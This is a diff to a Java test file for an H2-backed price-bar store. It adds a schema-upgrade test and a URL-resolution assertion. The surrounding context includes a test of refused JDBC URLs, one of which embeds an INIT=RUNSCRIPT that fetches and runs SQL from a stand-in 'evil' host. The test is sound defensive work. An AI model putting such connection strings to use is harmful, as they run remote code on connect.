@@ -195,6 +195,31 @@ class H2BarStoreTest {
     }
 
     @Test
+    void aVersion1StoreIsUpgradedWithItsBarsLiveAndCounted() throws Exception {
+        Path old = dir.resolve("v1/ibex");
+        try (java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:h2:file:" + old);
+             java.sql.Statement s = c.createStatement()) {
+            s.execute("CREATE TABLE ibex_schema_version (version INT PRIMARY KEY, applied_at TIMESTAMP WITH TIME ZONE"
+                + " NOT NULL DEFAULT CURRENT_TIMESTAMP)");
+            for (String sql : Schema.MIGRATIONS.get(0)) s.execute(sql);
+            s.execute("INSERT INTO ibex_schema_version (version) VALUES (1)");
+            s.execute("INSERT INTO bar_series (symbol, bar_seconds) VALUES ('OLD', 86400)");
+            s.execute("INSERT INTO bar_import (series_id, source, sha256, bars_read, bars_inserted, bars_updated,"
+                + " rows_rejected, imported_at) VALUES (1, 'old.csv', '" + "a".repeat(64) + "', 2, 2, 0, 0, CURRENT_TIMESTAMP)");
+            s.execute("INSERT INTO bar VALUES (1, 86400000, 1000000000, 1100000000, 900000000, 1000000000, 5, 1),"
+                + " (1, 172800000, 1000000000, 1100000000, 900000000, 1050000000, 6, 1)");
+        }
+        try (H2BarStore upgraded = H2BarStore.openExisting(old.toString())) {
+            assertThat(upgraded.verify()).extracting(SeriesInfo::series, SeriesInfo::count)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("OLD@1d", 2L));
+            assertThat(upgraded.load("OLD", Duration.ofDays(1)).close(1)).isEqualTo(10.5);
+            Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
+            FileImporter.importFile(upgraded, aapl, "OLD", null, false, null, ImportProgress.NONE);
+            assertThat(upgraded.list()).singleElement().extracting(SeriesInfo::count).isEqualTo(254L);
+        }
+    }
+
+    @Test
     void urlsThatCanRunCodeOnConnectAreRefused() {
         for (String url : new String[] {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
             "jdbc:h2:file:/tmp/x;init = runscript from 'x'", "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
@@ -221,6 +246,8 @@ class H2BarStoreTest {
         assertThat(StoreLocation.resolve(null, Map.of("IBEX_DB", "/data/bars.mv.db"), home).jdbcUrl())
             .isEqualTo("jdbc:h2:file:/data/bars;WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
         assertThat(StoreLocation.resolve(null, Map.of("IBEX_HOME", "/srv/ibex"), home).display()).isEqualTo("/srv/ibex/ibex");
+        assertThat(StoreLocation.resolve("jdbc:h2:~/bars;CACHE_SIZE=8192", Map.of(), home).jdbcUrl())
+            .isEqualTo("jdbc:h2:file:" + home.toAbsolutePath() + "/bars;CACHE_SIZE=8192;WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
         assertThat(StoreLocation.resolve("jdbc:h2:mem:t", Map.of("IBEX_DB", "/data/bars"), home).jdbcUrl())
             .isEqualTo("jdbc:h2:mem:t;WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
     }
